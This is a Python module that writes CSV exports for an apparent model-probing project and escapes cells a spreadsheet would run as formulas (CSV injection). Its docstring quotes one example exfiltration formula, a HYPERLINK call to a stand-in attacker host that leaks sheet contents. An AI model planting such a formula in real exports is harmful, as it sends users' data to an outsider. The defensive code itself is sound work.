"""CSV for spreadsheets: every CSV the project writes (`python -m probes report --format csv` in
all its views, the Scoreboard's download, the Probe grid's, a visitor's "Your results", a class's
answers) is made by `csv_text`, and this module is the only place that knows which cells a
spreadsheet would run as formulas.

A reply, a model or benchmark name, a nickname: text from outside reaches these files, and Excel,
LibreOffice and Google Sheets run a cell that starts with `=`, `+`, `-` or `@` as a formula
(`=HYPERLINK("http://attacker.example/?leak="&A1, ...)` sends the sheet away when clicked; DDE
formulas start programs). See `inert` for the rule (OWASP's "CSV injection").
"""

from __future__ import annotations

import csv
import io
import json
import numbers
import re
import unicodedata
from collections.abc import Iterable, Mapping, Sequence
from typing import Any

# Checked after NFKC, so the full-width forms (＝ ＋ － ＠) and the small ones (﹦ ﹢ ﹣ ﹫), which
# some spreadsheets read as the ASCII sign, count too.
FORMULA_START = ("=", "+", "-", "@")
# A tab or carriage return first: some importers split the cell there, and what follows starts a cell.
SPLITTING_START = ("\t", "\r")
# A decimal number as a spreadsheet reads one, ASCII only: "-0.5", "+3", "1e-05", "-.25".
PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?", re.ASCII)
# Python's csv quotes a cell holding a character of the line terminator, and only those: with
# "\n" alone a lone "\r" in a reply went unquoted, a spreadsheet started a new row there, and the
# text after it began a cell that no check had seen. "\r\n" (RFC 4180) quotes both.
LINE_END = "\r\n"


def inert(value: Any) -> Any:
    """`value` as it can be written to a CSV cell without a spreadsheet running it.

    Text that starts with a tab or a carriage return, or whose first character after any
    leading white space is `=`, `+`, `-` or `@` (or a full-width or small form of one), gets a
    single quote in front: the spreadsheet shows it as text, and a reader sees what was
    changed. A cell's text is never otherwise altered.

    Numbers are not text: an int or float we computed (a PSE of -0.03, a difference in
    accuracy of -12.5, a latency) is returned as it is, and stays a number in the spreadsheet,
    so a researcher can sort and sum the column. Text that is exactly a plain decimal number
    ("-3", "+0.5", "-1e-3": a model's count, a student's typed answer, a latency we formatted)
    is left as it is too: a spreadsheet reads it as that number, which is all it can do with it
    (no reference, no function, no call), and quoting it would turn the model's numeric answers
    into text that no formula of the researcher's adds up. Anything more ("-3+A1", " -3",
    "-3 apples", a full-width "－3") is escaped.

    None stays None (an empty cell); anything else is checked as the text the writer makes of it.
    """
    if value is None or isinstance(value, numbers.Number):  # bool, int, float, numpy numbers
        return value
    text = value if isinstance(value, str) else str(value)
    return "'" + text if runs_as_formula(text) else value


def runs_as_formula(text: str) -> bool:
    """Whether a spreadsheet could run `text`, written to a cell as it is (see `inert`)."""
    if text.startswith(SPLITTING_START):
        return True
    head = text.lstrip()[:1]
    if not head or not unicodedata.normalize("NFKC", head).startswith(FORMULA_START):
        return False
    return PLAIN_NUMBER.fullmatch(text) is None


def csv_text(columns: Sequence[str], rows: Iterable[Mapping[str, Any]]) -> str:
    """A header of `columns`, then one line per row (a mapping by column; a column it lacks is an
    empty cell), every cell through `inert`. A cell holding a comma, a quote or a line break is
    quoted, its quotes doubled. A row with a key that is not a column is refused (ValueError),
    as csv.DictWriter refuses it: a renamed column must not vanish from a download unseen."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, quoting=csv.QUOTE_MINIMAL, lineterminator=LINE_END)
    writer.writerow([inert(name) for name in columns])
    known = set(columns)
    for row in rows:
        unknown = [key for key in row if key not in known]
        if unknown:
            raise ValueError(f"a row has keys that are not columns: {', '.join(map(str, unknown))}")
        writer.writerow([inert(row.get(name)) for name in columns])
    return buffer.getvalue()


def json_rows(rows: Iterable[Any]) -> str:
    """A JSON array with one row to a line: as readable a diff as an indented dump, and made by
    the json module's C encoder (an indented dump is made in Python: 0.6 s of `report --fit`'s
    846 rows of curves at a million results, against 0.2 s)."""
    lines = [json.dumps(row, ensure_ascii=False) for row in rows]
    return "[\n" + ",\n".join(lines) + "\n]" if lines else "[]"
